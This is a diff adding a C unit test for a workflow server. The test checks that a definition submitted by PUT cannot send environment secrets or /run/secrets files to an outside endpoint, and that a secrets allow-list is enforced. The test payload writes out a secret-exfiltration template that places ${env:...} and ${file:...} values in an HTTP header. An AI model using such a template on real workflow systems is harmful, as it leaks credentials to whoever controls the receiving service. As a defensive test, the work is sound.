@@ -240,6 +240,51 @@ static void test_versions_are_shown(void **state)
 	scene_stop(scene, 0);
 }
 
+/* Whoever may put could otherwise have the server send what it can read to a service of his own. */
+static void test_secrets_that_a_put_may_name(void **state)
+{
+	static const char put[] = "/api/v1/definitions/spy";
+	static const char spy[] =
+		"{'workflow':'spy','kind':'run','actions':{'A':{'kind':'http','url':'@/spied','headers':"
+		"{'X-A':'${env:SHOP_%s} ${file:/run/secrets/a}'}}},'steps':[{'name':'a','type':'task','action':'A'}]}";
+	struct scene *scene = *state;
+	char text[600];
+
+	begin(scene);
+	snprintf(text, sizeof text, spy, "KEY");
+	scene_must(scene, 0, "PUT", put, text, 422, "DEFINITION_INVALID");
+	assert_non_null(strstr(reply_text(&scene->last, "findings.0.text"), "${env:SHOP_KEY} is not among what"));
+	assert_int_equal(reply_count(&scene->last, "findings"), 2);
+	scene_stop(scene, 0);
+	scene_define(scene, "spy", text); /* a file may */
+	scene_start(scene, 0);
+	scene_must(scene, 0, "PUT", put, text, 200, NULL); /* and what is in force is nothing new */
+	scene_stop(scene, 0);
+
+	scene_configure(
+		scene,
+		"{'modules':{'billing':{'janitor':{}}},'secrets':{'allow':['env:SHOP_*','file:/run/secrets/a']}}");
+	scene_start(scene, 0);
+	snprintf(text, sizeof text, spy, "OTHER");
+	scene_must(scene, 0, "PUT", put, text, 200, NULL);
+	scene_must(
+		scene, 0, "PUT", put,
+		"{'workflow':'spy','kind':'run','actions':{'A':{'kind':'http','url':'@/spied','headers':{'X':'${env:PATH}'}}},"
+		"'steps':[{'name':'a','type':'task','action':'A'}]}",
+		422, "DEFINITION_INVALID");
+	scene_stop(scene, 0);
+
+	/* What the list forbids is not sent either, whoever brought it. */
+	scene_configure(scene, "{'modules':{'billing':{'janitor':{}}},'secrets':{'allow':[]}}");
+	scene_define(scene, "spy", NULL);
+	scene_start(scene, 0);
+	scene_must(scene, 0, "POST", "/api/v1/workflow-runs?wait=20s", "{'definitionId':'spy'}", 201, "");
+	assert_string_equal(reply_text(&scene->last, "run.status"), "FAILED");
+	assert_non_null(strstr(reply_text(&scene->last, "run.error.message"), "is not allowed, see secrets.allow"));
+	assert_int_equal(service_count(scene->service, "/spied", NULL), 0);
+	scene_stop(scene, 0);
+}
+
 static void test_what_is_not_there_is_not_shown(void **state)
 {
 	static const char *const wrong[] = {PUT "?version=0", PUT "?version=-1", PUT "?version=x",
@@ -610,6 +655,7 @@ int main(void)
 		ON(postgres, test_put_that_is_not_valid_on_the_other_node),
 		ON(sqlite, test_versions_are_shown),
 		ON(postgres, test_versions_are_shown),
+		ON(sqlite, test_secrets_that_a_put_may_name),
 		ON(sqlite, test_what_is_not_there_is_not_shown),
 		ON(sqlite, test_wrong_sql_is_refused),
 		ON(postgres, test_wrong_sql_is_refused),
